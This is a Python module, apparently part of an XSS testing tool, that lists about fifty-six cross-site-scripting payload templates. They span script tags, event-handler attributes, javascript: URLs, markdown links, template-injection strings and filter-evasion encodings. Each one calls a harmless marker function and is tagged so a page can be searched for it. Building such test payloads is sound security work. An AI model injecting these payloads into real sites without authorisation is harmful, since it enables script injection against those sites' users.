"""Classic cross-site-scripting payloads, each calling ``__xss(N)`` (or ``alert(N)``) if it ever
runs, and each carrying its own marker ``xssN`` so a page can be searched for it."""

from __future__ import annotations

_TEMPLATES = [
    "<script>__xss({n})</script>",
    "<SCRIPT>__xss({n})</SCRIPT>",
    "<script src=data:text/javascript,__xss({n})></script>",
    "<img src=x onerror=__xss({n})>",
    '<img src=x onerror="__xss({n})">',
    "<IMG SRC=x oNeRrOr=__xss({n})>",
    "<svg onload=__xss({n})>",
    "<svg><script>__xss({n})</script></svg>",
    "<body onload=__xss({n})>",
    '<iframe src="javascript:__xss({n})"></iframe>',
    '<iframe srcdoc="<script>parent.__xss({n})</script>"></iframe>',
    "<details open ontoggle=__xss({n})>",
    "<video><source onerror=__xss({n})></video>",
    "<audio src=x onerror=__xss({n})>",
    "<input autofocus onfocus=__xss({n})>",
    '<a href="javascript:__xss({n})">click</a>',
    '<a href="JaVaScRiPt:__xss({n})">click</a>',
    '<a href="&#106;avascript:__xss({n})">click</a>',
    '<object data="javascript:__xss({n})"></object>',
    '<embed src="javascript:__xss({n})">',
    "<math><mtext><img src=x onerror=__xss({n})></mtext></math>",
    "<style onload=__xss({n})></style>",
    "<marquee onstart=__xss({n})>",
    '<form action="javascript:__xss({n})"><button>go</button></form>',
    '<meta http-equiv="refresh" content="0;url=javascript:__xss({n})">',
    '<base href="javascript:__xss({n})//">',
    '"><img src=x onerror=__xss({n})>',
    "'><img src=x onerror=__xss({n})>",
    '" onmouseover="__xss({n})" x="',
    "' onfocus='__xss({n})' autofocus x='",
    "</title><script>__xss({n})</script>",
    "</textarea><script>__xss({n})</script>",
    "</script><script>__xss({n})</script>",
    "--><script>__xss({n})</script><!--",
    '<!--<img src="--><img src=x onerror=__xss({n})//">',
    "[click](javascript:__xss({n}))",
    "[click](JAVASCRIPT:__xss({n}))",
    '![img](x" onerror="__xss({n}))',
    "[a](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==) {n}",
    '<https://x.example/"onmouseover="__xss({n})>',
    "<javascript:__xss({n})>",
    "{{{{ __xss({n}) }}}}",
    "{{% debug %}} {n}",
    "${{__xss({n})}}",
    "<%= __xss({n}) %>",
    "\\u003cscript\\u003e__xss({n})\\u003c/script\\u003e",
    "\uff1cscript\uff1e__xss({n})\uff1c/script\uff1e",
    "<scr<script>ipt>__xss({n})</scr</script>ipt>",
    "<img src=`x` onerror=__xss({n})>",
    "<img src=x:alert(alt) onerror=eval(src) alt={n}>",
    '<svg><a xlink:href="javascript:__xss({n})"><text>x</text></a></svg>',
    "<svg><animate onbegin=__xss({n}) attributeName=x dur=1s>",
    '<div style="background:url(javascript:__xss({n}))">x</div>',
    "<isindex action=javascript:__xss({n}) type=submit>",
    "<img src=x onerror=alert({n})>",
    "<script>alert({n})</script>",
]


def payloads() -> list[tuple[int, str]]:
    """(number, text): the marker ``xssN`` is prefixed to every payload so a page can be
    searched for it whether or not the markup survived."""
    return [(n, f"xss{n} " + template.format(n=n)) for n, template in enumerate(_TEMPLATES, 1)]
